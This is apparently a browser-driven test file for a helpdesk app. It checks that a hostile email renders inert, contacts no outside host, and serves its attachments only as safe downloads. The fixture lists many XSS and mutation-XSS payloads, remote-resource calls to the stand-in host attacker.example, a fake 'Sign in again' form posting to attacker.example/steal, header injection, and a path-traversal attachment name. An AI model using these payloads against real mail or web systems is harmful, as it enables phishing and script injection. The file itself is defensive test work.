// Mail that wants to run, to phone home, or to look like ours (T-A1, T-A2, T-A3).

import assert from 'node:assert/strict';
import test, { after } from 'node:test';
import { openBrowser, openPage, openTicket, row, sampleCompany, screenshot, signIn, write } from './support.mjs';

const browser = await openBrowser({ after });
const steward = await sampleCompany({ after });
const ATTACKER = 'http://attacker.example';

const HTML = `<!doctype html><html><head><base href="${ATTACKER}/"><meta http-equiv="refresh" content="0;url=${ATTACKER}/gone">
<link rel="stylesheet" href="${ATTACKER}/style.css"><link rel="prefetch" href="${ATTACKER}/prefetch">
<style>@import url(${ATTACKER}/import.css); body{background:url(${ATTACKER}/ground.png)} .message-sheet{display:none}</style>
<script>top.ran = 'head'</script></head><body onload="top.ran='onload'" background="${ATTACKER}/body.png">
<p>Visible words of the letter.</p>
<script>parent.ran = 'script'</script>
<img src=x onerror="parent.ran='onerror'"><img src="${ATTACKER}/pixel.png"><img srcset="${ATTACKER}/set.png 2x">
<svg onload="parent.ran='svg'"><script>parent.ran='svg script'</script><use href="${ATTACKER}/use.svg#a"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.ran='mxss'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=parent.ran='noscript'>"></noscript>
<iframe src="${ATTACKER}/frame"></iframe><iframe srcdoc="<script>parent.parent.ran='srcdoc'</script>"></iframe>
<object data="${ATTACKER}/object"></object><embed src="${ATTACKER}/embed"><video src="${ATTACKER}/v" poster="${ATTACKER}/p"></video><audio src="${ATTACKER}/a" autoplay></audio>
<form action="${ATTACKER}/steal" method="post"><input name="password" type="password" autofocus onfocus="parent.ran='focus'"><button>Sign in again</button></form>
<a href="javascript:parent.ran='link'">click</a><a href="data:text/html,<script>parent.ran='data'</script>">data</a>
<a href="${ATTACKER}/harmless">harmless</a>
<div style="position:fixed;inset:0;background:url('${ATTACKER}/inline.png');width:expression(alert(1))">over everything</div>
<template><img src=x onerror="parent.ran='template'"></template>
</body></html>`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>document.cookie='ran=svg'</script></svg>`;
const PAGE = `<script>document.cookie='ran=html'</script>`;

function hostileMail() {
  const part = (type, name, body) => ['--b', `Content-Type: ${type}; name="${name}"`, `Content-Disposition: attachment; filename="${name}"`, '', body];
  return [
    'From: "Mallory \\"><script>parent.ran=1</script>" <mallory@attacker.example>', 'To: it@brackwater.example',
    'Subject: Invoice <img src=x onerror=parent.ran=2>', 'Message-ID: <hostile.1@attacker.example>', 'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b', '', '--b', 'Content-Type: text/html; charset=utf-8', '', HTML,
    ...part('image/svg+xml', 'logo.svg', SVG), ...part('text/html', 'page.html', PAGE), ...part('image/png', 'picture.html', PAGE),
    ...part('application/pdf', '../../etc/<b>passwd"\r\nx', 'no pdf'.trim()).map((line) => line.replace(/"\r\nx/g, '')), '--b--', '',
  ].join('\n');
}

test('a hostile mail is shown, runs nothing, asks nobody outside for anything, and covers nothing of ours', async (t) => {
  await write(steward, hostileMail());
  const page = await openPage(browser);
  t.after(() => page.context().close());
  const asked = [];
  page.context().on('request', (request) => { if (!request.url().startsWith(steward.url) && !request.url().startsWith('data:')) asked.push(request.url()); });
  await signIn(page, steward, 'jonas', '/desk/views/open');
  await row(page, 'Invoice <img src=x').waitFor();
  await openTicket(page, 'Invoice <img src=x onerror=parent.ran=2>');
  const frame = page.frameLocator('.message-frame').first();
  await frame.getByText('Visible words of the letter.').waitFor();
  await page.locator('.attachment').first().waitFor();
  await screenshot(page, 'hostile-open');

  assert.equal(await page.evaluate(() => window.ran), undefined);
  const inside = page.frames().find((one) => one.url().includes('/body'));
  const found = await inside.evaluate(() => ({
    elements: [...document.querySelectorAll('script,iframe,object,embed,form,input,svg,math,link,video,audio,template,base[href],meta[http-equiv]')].map((one) => one.outerHTML),
    handlers: [...document.querySelectorAll('*')].flatMap((one) => [...one.attributes].filter((a) => /^on|^style$|^srcset$|^background$/.test(a.name) && /on|attacker|fixed/.test(a.name + a.value)).map((a) => `${a.name}=${a.value}`)),
    links: [...document.querySelectorAll('a[href]')].map((one) => [one.getAttribute('href'), one.rel]),
  })).catch((error) => error);
  // Scripts are off in there; the tester's own are run by the debugger and may look.
  assert.deepEqual(found.elements, []);
  assert.deepEqual(found.handlers, []);
  for (const [href, rel] of found.links) {
    assert.match(href, /^(https?:|mailto:)/);
    assert.match(rel, /noopener/);
  }
  await page.locator('#composer-body').click();
  assert.equal(await page.evaluate(() => document.activeElement.id), 'composer-body', 'the letter covers our own page');
  assert.deepEqual(asked, []);
  await page.watch.assertQuiet();
});

test('attachments are downloads whatever they call themselves', async (t) => {
  const page = await openPage(browser);
  t.after(() => page.context().close());
  await signIn(page, steward, 'jonas', '/desk/views/open');
  await openTicket(page, 'Invoice <img src=x onerror=parent.ran=2>');
  await page.locator('.attachment').first().waitFor();
  const links = await page.locator('.attachment').evaluateAll((all) => all.map((one) => one.href));
  assert.equal(links.length, 4);
  for (const href of links) {
    const answer = await page.context().request.get(href);
    const headers = answer.headers();
    assert.equal(answer.status(), 200);
    assert.match(headers['content-disposition'], /^attachment/);
    assert.doesNotMatch(headers['content-disposition'], /[\r\n]|\.\.\/|filename="[^"]*</);
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.match(headers['content-security-policy'], /sandbox|default-src 'none'/);
    assert.doesNotMatch(headers['content-type'], /html|svg|xml|javascript/);
  }
  // Typed into the address line they are still no pages.
  page.watch.forgive(/ERR_ABORTED/);
  const download = page.waitForEvent('download');
  await page.goto(links[1]).catch(() => {});
  await download;
  assert.ok(!(await page.context().cookies()).some((cookie) => cookie.name === 'ran'));
  await page.watch.assertQuiet();
});
